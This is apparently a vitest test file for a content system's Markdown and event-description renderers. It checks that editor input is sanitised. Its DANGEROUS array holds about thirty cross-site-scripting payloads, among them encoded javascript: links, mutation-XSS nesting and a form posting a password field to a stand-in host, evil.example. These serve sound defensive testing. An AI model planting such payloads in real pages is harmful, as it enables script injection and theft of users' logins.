import { describe, expect, test } from 'vitest'
import { descriptionRenderer, markdownRenderer } from '#cms/publish/markdown.ts'
import { isSafeLink } from './safe-markdown.ts'

const toHtml = await markdownRenderer()
const render = async (text: string) => (await toHtml(text)).html.trim()
const descriptionToHtml = await descriptionRenderer()
const describeEvent = async (text: string) => (await descriptionToHtml(text)).html.trim()

/** The editor's gateway saves each of these unchanged, so what would run in a browser must be gone from the page. */
const DANGEROUS = [
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src="x" onerror="alert(1)"',
  '<a href="javascript:alert(1)">x</a>',
  '<javascript:alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>@import "//evil.example"</style>',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password></form>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php <script>alert(1)</script> ?>',
  '- item\n\n  <script>alert(1)</script>',
  '> <iframe srcdoc="<script>alert(1)</script>">',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  '[x](javascript&colon;alert(1))',
  '[x](java\\script:alert(1))',
  '[x]( javascript:alert(1) "t")',
  '![x](javascript:alert(1))',
  '![x](../media/news/a.png"onerror="alert(1).png)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '[a](https://a.example" onclick="alert(1))',
  '```"><script>alert(1)</script>\ncode\n```',
  '# <script>alert(1)</script> {#x onclick=alert(1)}',
  '<div\nonclick=alert(1)>x</div>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]

/** Throws when a piece of HTML has an element, an attribute, or an address that could run as a script. */
function expectHarmless(html: string): void {
  const elements = html.match(/<[a-z](?:[^>"]|"[^"]*")*>/gi) ?? []
  for (const element of elements) {
    expect(element).toMatch(
      /^<(?:p|a|br|h2|ul|li|blockquote|table|thead|tbody|tr|th|td|pre|code|img|hr|em|strong|span)\b/,
    )
    expect(element.replace(/"[^"]*"/g, '')).not.toMatch(/\son\w+|srcdoc/i)
    expect(element).not.toMatch(/(?:href|src)="\s*(?:javascript|data|vbscript)/i)
  }
}

describe('Markdown that an editor wrote', () => {
  test.each([
    ['<script>alert(1)</script>', ''],
    ['a <b onclick="x()">bold</b> word', '<p>a bold word</p>'],
    ['a <img src=x onerror=alert(1)> b', '<p>a  b</p>'],
    ['<!-- note -->', ''],
    ['<iframe src="https://a.example"></iframe>', ''],
  ])('loses its HTML and keeps its text: %s', async (text, html) => expect(await render(text)).toBe(html))

  test.each(DANGEROUS)('cannot run anything: %s', async (text) => expectHarmless(await render(text)))

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    '//evil.example',
    'java&#10;script:alert(1)',
  ])('keeps the text but not the address of a link to %s', async (url) => {
    const html = await render(`[text](<${url}>)`)
    expect(html).toBe('<p><a>text</a></p>')
    expect(await render(`[text][r]\n\n[r]: <${url}>`)).toBe(html)
  })

  test('keeps links to the web, to mail and to this site', async () => {
    expect(await render('[a](https://a.example/x?y=1)')).toBe(
      '<p><a href="https://a.example/x?y=1" rel="noopener">a</a></p>',
    )
    expect(await render('[m](mailto:a@b.example) [e](/events) [c](#contact)')).toBe(
      '<p><a href="mailto:a@b.example">m</a> <a href="/events">e</a> <a href="#contact">c</a></p>',
    )
  })

  test('shows images of the media library only', async () => {
    expect(await render('![A barn](../media/news/barn.webp)')).toContain('barn.webp')
    expect(await render('![A barn](https://a.example/x.png)')).toBe('<p>A barn</p>')
    expect(await render('![A barn](%zz)')).toBe('<p>A barn</p>')
    for (const around of ['../media/../../uploads/deck.png', '../../media/news/a.png', '../media/news/../../x.png']) {
      expect(await render(`![A barn](${around})`), around).toBe('<p>A barn</p>')
    }
    expect(await render('![A barn][r]\n\n[r]: https://a.example/x.png')).toBe('<p>A barn</p>')
  })

  test('begins its headings below the page’s own', async () => {
    expect(await render('# Why')).toBe('<h2 id="why">Why</h2>')
  })
})

test('a link with white space or a control character inside is not safe', () => {
  expect(isSafeLink('https://a.example/\u0000')).toBe(false)
  expect(isSafeLink('/a b')).toBe(false)
  expect(isSafeLink('/\\evil.example')).toBe(false)
})

describe('the description of an event', () => {
  test.each([
    ['Doors at six.\nTalks at seven.', '<p>Doors at six.<br>\nTalks at seven.</p>'],
    ['One.\r\nTwo.\n\nThree.', '<p>One.<br>\nTwo.</p>\n<p>Three.</p>'],
    ['Ask <Ada> & co, 5 < 6', '<p>Ask &lt;Ada&gt; &amp; co, 5 &lt; 6</p>'],
    ['    The hall:\n    second floor', '<p>The hall:<br>\nsecond floor</p>'],
    ['---\nBring a friend.\n---', '<hr>\n<h2 id="bring-a-friend">Bring a friend.</h2>'],
    ['5 * 3 * 2 is a_long_name', '<p>5 * 3 * 2 is a_long_name</p>'],
  ])('reads as the plain text of before: %s', async (text, html) => expect(await describeEvent(text)).toBe(html))

  test.each([
    ['**Free** for _members_', '<p><strong>Free</strong> for <em>members</em></p>'],
    ['- tea\n- cake', '<ul>\n<li>tea</li>\n<li>cake</li>\n</ul>'],
    ['Two  \nlines\\\nor three', '<p>Two<br>\nlines<br>\nor three</p>'],
    ['[Map](https://a.example)', '<p><a href="https://a.example" rel="noopener">Map</a></p>'],
    ['See https://a.example.', '<p>See <a href="https://a.example" rel="noopener">https://a.example</a>.</p>'],
  ])('is Markdown: %s', async (text, html) => expect(await describeEvent(text)).toBe(html))

  test.each(DANGEROUS)('cannot run anything: %s', async (text) => expectHarmless(await describeEvent(text)))

  test('has no images', async () => {
    expect(await describeEvent('![A barn](../media/events/barn.webp)')).toBe('<p>A barn</p>')
    expect(await describeEvent('![](../media/events/barn.webp)')).toBe('<p></p>')
  })
})
